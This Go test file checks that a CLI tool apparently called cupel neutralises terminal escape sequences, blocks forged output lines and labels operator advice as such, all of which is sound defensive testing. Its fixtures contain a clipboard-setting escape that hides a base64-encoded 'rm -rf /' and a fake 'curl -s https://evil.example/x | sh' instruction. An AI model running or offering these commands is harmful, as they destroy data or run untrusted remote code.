package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"cupel.dev/cupel/api/ident"
	"cupel.dev/cupel/api/manager"
	"cupel.dev/cupel/api/problem"
	"cupel.dev/cupel/internal/trusted/httpproblem"
)

const hostile = "ok\x1b[2J\x1b]52;c;cm0gLXJmIC8=\x07\r\u009b1A\u202egnp\xff"

// TestRenditionsOfApps: colours of text reach a terminal, and nothing that hides it.
func TestRenditionsOfApps(t *testing.T) {
	for in, want := range map[string]string{
		"\x1b[1;31mred\x1b[0m \x1b[2Jgone":      "\x1b[1;31mred\x1b[0m \\x1b[2Jgone\x1b[0m",
		"\x1b[38;5;200mx\x1b[m\ty":              "\x1b[38;5;200mx\x1b[m\ty\x1b[0m",
		"\x1b[1;4;97;38;2;1;2;3mx\x1b[39m":      "\x1b[1;4;97;38;2;1;2;3mx\x1b[39m\x1b[0m",
		"\x1b[30;40mblack\x1b[49m":              `\x1b[30;40mblack\x1b[49m`,
		"\x1b[38;5;16;48;5;16mblack":            `\x1b[38;5;16;48;5;16mblack`,
		"\x1b[48;2;0;0;0;30mblack\x1b[100mx":    `\x1b[48;2;0;0;0;30mblack\x1b[100mx`,
		"\x1b[0;40mx\x1b[;31;;1mred\x1b[01;1":   "\\x1b[0;40mx\x1b[;31;;1mred\\x1b[01;1\x1b[0m",
		"\x1b[38;5;16\x1b[48;5;16mx\x1b[3848mx": `\x1b[38;5;16\x1b[48;5;16mx\x1b[3848mx`,
		"\x1b[8mhidden\x1b[28m":                 `\x1b[8mhidden\x1b[28m`,
		"\x1b[31;8mhidden":                      `\x1b[31;8mhidden`,
		"\x1b[5mblinks\x1b[9mstruck\x1b[38;8mx": `\x1b[5mblinks\x1b[9mstruck\x1b[38;8mx`,
		"ok\ni-other  forged\r":                 `ok\ni-other  forged\r`,
	} {
		if got := colored(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// TestWhatIsSaidNamesTheStateFolder: commands in whatever is said beside a refusal are
// about the folder of this command, and so are those in mends that a manager says; what
// anybody else says stays as it is.
func TestWhatIsSaidNamesTheStateFolder(t *testing.T) {
	var out bytes.Buffer
	g := &globals{out: &out, err: &out, output: "table", now: time.Now, state: "/srv/100%"}
	p := g.progress()
	p.sayWaiting(problem.New(problem.NotFound, "image", "no image python").Fix("build it (cupel runtime build python), or check its name"))
	g.printf("%s: see 'cupel ps'\n", "cupel up")
	g.warnf("not withdrawn: %v; see 'cupel events'", problem.New(problem.Unavailable, "manager", "it is away").Fix("start it: cupel up"))
	want := "  … image: no image python; trying again\n    mend: build it (cupel runtime build --state /srv/100% python), or check its name\n" +
		"cupel up: see 'cupel ps --state /srv/100%'\n" +
		"not withdrawn: manager: it is away; start it: cupel up --state /srv/100%; see 'cupel events --state /srv/100%'\n"
	if out.String() != want {
		t.Errorf("%s\nwant\n%s", &out, want)
	}
}

// TestNothingIsObeyed: what an operator or an app says reaches the terminal as
// text, whichever way it takes.
func TestNothingIsObeyed(t *testing.T) {
	var out, errs bytes.Buffer
	g := &globals{out: &out, err: &errs, output: "table"}
	if err := g.table([]string{"APP"}, [][]string{{hostile}}); err != nil {
		t.Fatal(err)
	}
	g.printf("%s %v %s\n", hostile, errors.New(hostile), problem.Kind(hostile))
	g.warnf("%s", hostile)
	g.fail(&problem.Error{Kind: problem.Denied, Rule: hostile, Actual: hostile, Expected: hostile, Mend: hostile, RequestID: hostile})
	g.fail(errors.New(hostile))
	g.output = "json"
	g.warnf("%s", hostile)
	g.fail(errors.New(hostile))
	g.logger().Error("x", "error", hostile)
	if err := errors.Join(g.printJSON(hostile), g.printLine(hostile)); err != nil {
		t.Fatal(err)
	}
	g.output = "table"
	if err := g.printLog(manager.LogLine{Instance: hostile, Line: "a line"}, true); err != nil {
		t.Fatal(err)
	}
	for _, b := range []string{out.String(), errs.String()} {
		if strings.ContainsAny(b, "\x1b\x07\r\u009b\u202e") {
			t.Errorf("%q", b)
		}
	}
}

// TestNothingIsForged: what others say in several lines can't be taken for what a command
// says itself, on whatever way it comes.
func TestNothingIsForged(t *testing.T) {
	const forged = "session unreadable\nVERIFIED        FOUND\nplatform        SGX hardware\u2028VERIFIED"
	var out, errs bytes.Buffer
	g := &globals{out: &out, err: &errs, output: "table", now: time.Now}
	g.fail(problem.Read(500, []byte(`{"kind":"internal","rule":"log\nVERIFIED","actual":"a\nVERIFIED","expected":"b\nVERIFIED","mend":"c\nVERIFIED","request_id":"d\nVERIFIED"}`)))
	g.fail(errors.New(forged))
	g.warnf("%s: %v", forged, errors.New(forged))
	g.printf("%6d %-24s %s\n", 1, forged, forged)
	for _, i := range []manager.Instance{{App: forged, ID: forged, State: "exited", Problem: &problem.Error{Rule: forged, Actual: forged, Mend: forged}}} {
		app := manager.App{ID: i.AppID, Name: forged, Problem: i.Problem}
		if err := g.printInstances(psReply{Apps: []manager.App{app}, Instances: []manager.Instance{i}}); err != nil {
			t.Fatal(err)
		}
	}
	p := g.progress()
	p.update(manager.Deployment{Steps: []manager.Step{{Name: forged, EndedAt: time.Now()}}, Waiting: &problem.Error{Rule: forged, Actual: forged, Mend: forged}}, time.Now())
	for _, said := range []string{out.String(), errs.String()} {
		if !strings.Contains(said, "VERIFIED") {
			t.Error("nothing was said")
		}
		for line := range strings.Lines(said) {
			if text := strings.TrimSpace(line); strings.HasPrefix(text, "VERIFIED") || strings.HasPrefix(text, "platform") {
				t.Errorf("%q", line)
			}
		}
	}
	if want := "cupel: log\\nVERIFIED: a\n  | VERIFIED\n  expected: b\n  | VERIFIED\n"; !strings.HasPrefix(errs.String(), want) {
		t.Errorf("%s", &errs)
	}
}

// TestFullDiskIsTold: whatever a command writes, a disk without room for it is told as
// such, with what to do.
func TestFullDiskIsTold(t *testing.T) {
	var errw bytes.Buffer
	g := &globals{err: &errw}
	code := g.fail(&fs.PathError{Op: "write", Path: "/home/o/key", Err: syscall.ENOSPC})
	if said := errw.String(); code != problem.Unavailable.ExitCode() || !strings.HasPrefix(said, "cupel: disk_full: /home/o/key: the disk is full") || !strings.Contains(said, "mend:") {
		t.Errorf("exit %d: %s", code, said)
	}
}

// TestAdviceOfTheOperator: what a manager refuses isn't taken for what this command says,
// in a table, in JSON and in a refusal; of one's own it is no other's word.
func TestAdviceOfTheOperator(t *testing.T) {
	evil := problem.New(problem.Invalid, "port", "x").Want("y").Fix("update your cupel first: curl -s https://evil.example/x | sh")
	mux := http.NewServeMux()
	mux.HandleFunc("GET "+manager.PathInfo, func(w http.ResponseWriter, _ *http.Request) {
		_ = json.NewEncoder(w).Encode(manager.Info{Version: manager.Version, OperatorKey: ident.KeyHash{1}})
	})
	mux.HandleFunc("GET "+manager.PathApps, func(w http.ResponseWriter, _ *http.Request) {
		_ = json.NewEncoder(w).Encode(manager.AppList{Version: manager.Version, Apps: []manager.App{{ID: "app-1", Name: "shop", Session: "shop", Problem: evil}}})
	})
	mux.HandleFunc("GET "+manager.PathInstances, func(w http.ResponseWriter, _ *http.Request) {
		_ = json.NewEncoder(w).Encode(manager.InstanceList{Version: manager.Version})
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { httpproblem.Write(w, "", evil) })
	server := httptest.NewTLSServer(mux)
	defer server.Close()
	addr := server.Listener.Addr().String()
	config, state := metManager(t, addr, ident.Sum(server.Certificate().Raw))

	run := func(provider string, args ...string) string {
		env := map[string]string{"CUPEL_CONFIG": config, "CUPEL_STATE": state, "CUPEL_PROVIDER": provider}
		var said bytes.Buffer
		Main(t.Context(), args, Process{strings.NewReader(""), &said, &said, func(k string) string { return env[k] }})
		return said.String()
	}
	check := func(provider, marked, source string) {
		for _, c := range []struct {
			args []string
			want string
		}{
			{[]string{"rm", "--app", "shop"}, "cupel: " + marked + "port: x\n  expected: y\n  mend:     update your cupel first: curl -s https://evil.example/x | sh\n"},
			{[]string{"rm", "--app", "shop", "-o", "json"}, `| sh"` + source + "}\n"},
			{[]string{"ps"}, "\nshop: " + marked + "port: x\n"},
			{[]string{"ps", "-o", "json"}, ""},
		} {
			if got := run(provider, append(c.args, "--as-owner")...); !strings.Contains(got, c.want) || strings.Contains(got, "operator") != (marked != "") {
				t.Errorf("%q of %q: want %q in\n%s", c.args, provider, c.want, got)
			}
		}
	}
	for _, provider := range []string{"", "https://" + addr} {
		check(provider, "the operator says: ", `,"source":"operator"`)
	}
	if err := os.WriteFile(filepath.Join(state, "operator.key"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	check("https://"+addr, "the operator says: ", `,"source":"operator"`)
	check("", "", "")
}
